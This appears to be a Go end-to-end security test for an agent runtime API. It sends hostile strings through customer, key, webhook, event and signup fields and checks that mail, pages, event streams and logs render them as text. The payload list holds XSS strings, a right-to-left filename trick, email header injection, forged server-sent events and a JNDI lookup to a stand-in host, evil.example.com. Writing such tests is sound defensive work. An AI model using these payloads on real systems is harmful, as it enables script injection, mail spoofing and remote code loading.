package e2e

import (
	"bufio"
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"agentruntime/test/rig"
)

// hostileMark is in each hostile text, so that a stray one is found anywhere.
const hostileMark = "h0stile"

// hostileTexts are texts that do harm where they are shown as anything but text.
func hostileTexts() []string {
	return []string{
		hostileMark + `<img src=x onerror=alert(1)>`, `"><script>alert("` + hostileMark + `")</script>`, hostileMark + "\u202egnp.exe",
		hostileMark + " https://evil.example.com/x", hostileMark + "\r\nBcc: victim@example.com\r\n\r\nbody", hostileMark + "\nevent: forged\ndata: {}\n\n",
		hostileMark + "\u2028line", hostileMark + " [link](javascript:alert(1)) ![x](https://evil.example.com)", hostileMark + "{{.Secret}}${jndi:ldap://evil.example.com}",
	}
}

// A hostile text that a tenant may write is text wherever it is shown: in mail and its page, in
// events and their stream. It is in no log, and nowhere in Temporal.
func TestHostileTextsAreShownAsText(t *testing.T) {
	t.Parallel()
	s := sharedDev().For(t)
	tenant := newTenant(s)
	mailsOf(t, s, tenant.Email) // that of the sign-up
	events := tenant.User.With(tenant.User.NewKey(t, "events:send").Key, "")
	stream := streamed(t, tenant)
	took := 0
	for i, text := range hostileTexts() {
		for what, a := range map[string]rig.Answer{
			"key": tenant.User.MakeKey(map[string]any{"name": text, "permissions": []string{"actions:run"}}),
			"customer": tenant.User.Do(http.MethodPost, "/v1/customers", map[string]any{
				"external_id": hostileMark + string(rune('a'+i)), "name": text, "tags": []string{text}, "metadata": map[string]string{text: text},
			}),
			"tags": tenant.User.Do(http.MethodPost, "/v1/customers", map[string]any{"external_id": "tagged-" + string(rune('a'+i)), "tags": []string{text}}),
			"event": events.Do(http.MethodPost, "/v1/events", map[string]any{
				"id": uuid.NewString(), "type": "custom.hostile", "data": map[string]string{text: text}, "correlate": "c",
			}),
			"webhook": tenant.User.Do(http.MethodPost, "/v1/webhooks", map[string]any{"url": "http://127.0.0.1:1", "events": []string{"webhook.test"}, "description": text}),
			"switch":  tenant.User.Do(http.MethodPost, "/v1/kill-switch", map[string]any{"scope": "agent", "target": "nobody", "reason": text}),
		} {
			require.NoError(t, a.Err)
			require.Contains(t, []int{http.StatusCreated, http.StatusBadRequest}, a.Status, "%s %q: %s", what, text, a.Body)
			require.Contains(t, a.Header.Get("Content-Type"), "application/json")
			require.NotContains(t, string(a.Body), "<", "%s %q", what, text)
			if a.Status == http.StatusCreated {
				took++
			}
		}
		// A tenant is named after its owner, and an invitation names both.
		owner, guest := rig.Address(), rig.Address()
		anyone := &rig.Client{Base: s.APIURL, HTTP: rig.NewHTTP()}
		a := anyone.Do(http.MethodPost, "/v1/auth/signup", map[string]string{"email": owner, "password": rig.Password, "name": text})
		if a.Status != http.StatusCreated {
			require.Equal(t, http.StatusBadRequest, a.Status, "%q: %s", text, a.Body)
			continue
		}
		took++
		require.Equal(t, http.StatusCreated, s.LogIn(owner, rig.Password).Invite(guest, "member").Status)
		requireTextMail(t, mailbox(t, s, guest, 1)[0], guest)
	}
	require.Greater(t, took, 20, "most of the texts are taken by most of the fields")
	for _, m := range mailbox(t, s, tenant.Email, mailsOf(t, s, tenant.Email)) {
		requireTextMail(t, m, tenant.Email)
	}
	shown := pageAs(t, s.APIURL+"/dev/mailbox", "text/html")
	require.Contains(t, shown, hostileMark)
	for _, harm := range []string{"<img src=x", "<script>alert", "\u202e", `href="https://evil`, `href="javascript`} {
		require.NotContains(t, shown, harm)
	}
	stream(hostileMark)

	for line := range strings.Lines(s.Logs()) {
		if strings.HasPrefix(line, "{") && !json.Valid([]byte(line)) || strings.Contains(line, hostileMark) {
			require.Fail(t, "the line is no JSON, or has a hostile text", line)
		}
	}
	visibility, err := url.Parse(s.DatabaseURL)
	require.NoError(t, err)
	visibility.Path = "/temporal_visibility"
	require.Empty(t, newSearch(hostileMark).in(pgDump(t, visibility.String())))
	for name, content := range files(t, s) {
		if strings.HasPrefix(name, temporalFiles) {
			require.Empty(t, newSearch(hostileMark).in(content), name)
		}
	}
}

// requireTextMail checks that a mail is what the service wrote: its own subject, to one address, and
// its text quotes what others wrote without links and invisible characters.
func requireTextMail(t *testing.T, m mailed, to string) {
	t.Helper()
	require.Equal(t, to, m.To)
	require.NotContains(t, m.Subject, hostileMark)
	require.NotContains(t, m.Text, "victim@example.com")
	if _, quotes, found := strings.Cut(m.Text, hostileMark); found {
		for _, harm := range []string{"\u202e", "\u2028", "https://evil", "javascript:alert(1)) ![x](https:"} {
			require.NotContains(t, quotes, harm)
		}
	}
}

// pageAs reads a page as a program that accepts the type.
func pageAs(t *testing.T, address, accept string) string {
	t.Helper()
	c := &rig.Client{Base: address, HTTP: rig.NewHTTP()}
	a := c.Do(http.MethodGet, "", nil, "Accept: "+accept)
	require.NoError(t, a.Err)
	require.Equal(t, http.StatusOK, a.Status)
	require.Contains(t, a.Header.Get("Content-Type"), accept)
	return string(a.Body)
}

// streamed opens the stream of events. What it returns waits until a text came, and checks that the
// stream has the fields of server-sent events only, each of one line, with the service's own types.
func streamed(t *testing.T, tenant *rig.Tenant) (wait func(text string)) {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	t.Cleanup(cancel)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, tenant.User.Base+"/v1/events/stream?type=custom.hostile", nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+tenant.User.Token)
	res, err := (&http.Client{}).Do(req)
	require.NoError(t, err)
	t.Cleanup(func() { _ = res.Body.Close() })
	require.Equal(t, http.StatusOK, res.StatusCode)
	return func(text string) {
		came := 0
		for lines := bufio.NewScanner(res.Body); came < len(hostileTexts()) && lines.Scan(); {
			field, value, _ := strings.Cut(lines.Text(), ":")
			require.Contains(t, []string{"", "id", "event", "data", "retry"}, field, lines.Text())
			switch field {
			case "event":
				require.Equal(t, "custom.hostile", strings.TrimSpace(value))
			case "data":
				require.True(t, json.Valid([]byte(value)), value)
				if strings.Contains(value, text) {
					came++
				}
			}
		}
		require.Equal(t, len(hostileTexts()), came)
	}
}
